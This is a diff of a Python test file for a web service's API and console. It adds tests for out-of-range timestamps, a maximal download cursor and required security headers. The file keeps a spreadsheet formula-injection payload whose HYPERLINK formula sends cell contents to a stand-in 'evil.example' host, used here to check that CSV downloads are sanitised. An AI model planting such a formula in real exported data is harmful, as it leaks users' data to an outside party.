@@ -18,7 +18,7 @@ import orjson
 import pytest
 
 from tests.conftest import MEMBER_ID, Database, sample
-from tests.helpers import PROJECTOR, Client
+from tests.helpers import PROJECTOR, Client, install_sample_portal, post
 from tests.test_cli import run
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
@@ -165,7 +165,6 @@ def test_a_log_line_cannot_be_forged_or_drive_a_terminal() -> None:
 async def test_console_downloads_hold_no_formula_even_from_unauthenticated_senders(
     client: Client,
 ) -> None:
-    from tests.helpers import install_sample_portal, post
     from tests.test_console import make_token, page, sign_in
 
     await install_sample_portal(client)
@@ -186,3 +185,62 @@ async def test_console_downloads_hold_no_formula_even_from_unauthenticated_sende
         assert _formula_cells(downloaded) == [], table
         if table == "/console/rejections":
             assert "'" + CLAIMED in downloaded  # kept, as text
+
+
+@pytest.mark.parametrize("path", [
+    "/api/v1/bots?as_of=received:0001-01-01T00:00:00%2B23:59",
+    "/api/v1/deletions?as_of=ts:0001-01-01T00:00:00%2B01:00",
+    "/api/v1/bots?as_of=received:9999-12-31T23:59:59-01:00",
+    "/console/bots?as_of=received:0001-01-01T00:00:00%2B23:59",
+    "/console/events?from=0001-01-01T00:00:00%2B01:00",
+    "/console/events?to=9999-12-31T23:59:59-01:00",
+    "/console/deletions?as_of=%EF%BC%92026-01-01T00:00:00",
+])
+async def test_a_time_whose_utc_moment_does_not_exist_is_a_400_not_a_503(
+    client: Client, path: str
+) -> None:
+    """Found by this break test: an offset pushing year 1 or 9999 out of range passed the
+    parser and PostgreSQL refused it (503 `store_refused`, the driver's error as the message)."""
+    from tests.test_api import bearer
+    from tests.test_console import make_token, sign_in
+
+    await install_sample_portal(client)
+    headers = await bearer(client)
+    assert (await sign_in(client, await make_token(client, "console"))).status == 303
+    response = await client.get(path, headers=headers, allow_redirects=False)
+    assert response.status == 400, (path, await response.text())
+
+
+async def test_a_rejections_download_pinned_at_the_largest_position_is_answered(
+    client: Client,
+) -> None:
+    """Found by this break test: `up_to=2**63-1` became a cursor past int64 (503)."""
+    from tests.test_console import make_token, sign_in
+
+    await install_sample_portal(client)
+    assert (await post(client, refused()))[0] in (401, 403)
+    assert (await sign_in(client, await make_token(client))).status == 303
+    response = await client.get(f"/console/download/rejections.csv?up_to={2**63 - 1}")
+    assert response.status == 200, await response.text()
+    assert len(list(csv.DictReader(io.StringIO((await response.read()).decode())))) == 1
+
+
+@pytest.mark.parametrize("path", [
+    "/api/v1/portals", "/api/v1/openapi.json", "/api/v1/nope", "/api/v1/events?after=x",
+    "/console/nope/deeper", "/bitrix24/events", "/metrics/nope",
+])
+@pytest.mark.parametrize("authorised", [False, True])
+async def test_every_read_answer_and_every_error_forbids_sniffing_framing_and_caching(
+    client: Client, path: str, authorised: bool
+) -> None:
+    """A JSON answer holds stored text too: no browser may sniff it into a page or frame it,
+    and no cache may keep it — including the errors the console leaves to the root (5xx, and
+    paths it does not serve)."""
+    from tests.test_api import bearer
+
+    headers = await bearer(client) if authorised else {}
+    response = await client.get(path, headers=headers, allow_redirects=False)
+    assert response.headers.get("X-Content-Type-Options") == "nosniff", response.status
+    assert "default-src 'none'" in response.headers.get("Content-Security-Policy", "")
+    assert "frame-ancestors 'none'" in response.headers.get("Content-Security-Policy", "")
+    assert response.headers.get("Cache-Control") == "no-store"
